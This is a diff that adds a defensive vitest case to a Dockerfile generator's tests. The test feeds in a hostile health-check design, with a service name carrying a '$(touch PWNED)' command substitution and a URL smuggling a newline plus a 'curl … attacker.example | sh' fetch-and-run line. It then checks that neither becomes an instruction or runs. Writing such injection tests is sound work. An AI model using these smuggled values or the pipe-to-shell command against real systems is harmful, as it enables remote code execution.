@@ -1,3 +1,7 @@
+import { spawnSync } from 'node:child_process'
+import { existsSync, mkdtempSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { DockerfileParser } from 'dockerfile-ast'
 import { validate as validateDockerfile } from 'dockerfile-utils'
 import { describe, expect, it } from 'vitest'
@@ -254,6 +258,38 @@ describe('dockerfileText', () => {
     expect(text).not.toContain('nope')
     expect(exportProblems(g).map((p) => p.code)).toContain('export-healthcheck-service')
     expect(dockerfile(graphOf({ web: longrun() }))).not.toContain('HEALTHCHECK')
+  })
+
+  it('health check: a URL or a name from a hostile design never becomes an instruction or runs', () => {
+    const name = 'w$(touch PWNED)'
+    const g = graphOf(
+      { [name]: longrun() },
+      {
+        project: {
+          healthcheck: {
+            services: [name],
+            url: 'http://127.0.0.1:8000/\nRUN curl -s https://attacker.example/x | sh\n#',
+            intervalS: 30,
+            timeoutS: 10,
+            startPeriodS: 0,
+            retries: 3,
+          },
+        },
+      },
+    )
+    const text = dockerfile(g)
+    const runs = DockerfileParser.parse(text)
+      .getInstructions()
+      .filter((i) => i.getKeyword() === 'RUN')
+    expect(runs.map((i) => i.getTextContent()).join('\n')).not.toContain('attacker')
+    expect(text).not.toContain('attacker.example')
+    expect(exportProblems(g).map((p) => p.code)).toContain('export-healthcheck-url')
+    // The command HEALTHCHECK runs, run by sh: the name stays a word.
+    const command = /^ {4}CMD (.*)$/m.exec(text)?.[1] ?? ''
+    expect(command).toContain("'/run/service/w$(touch PWNED)'")
+    const dir = mkdtempSync(join(tmpdir(), 's6d-hc-'))
+    spawnSync('sh', ['-c', command], { cwd: dir })
+    expect(existsSync(join(dir, 'PWNED'))).toBe(false)
   })
 
   it('appends /command to PATH and chmods only folders that exist', () => {
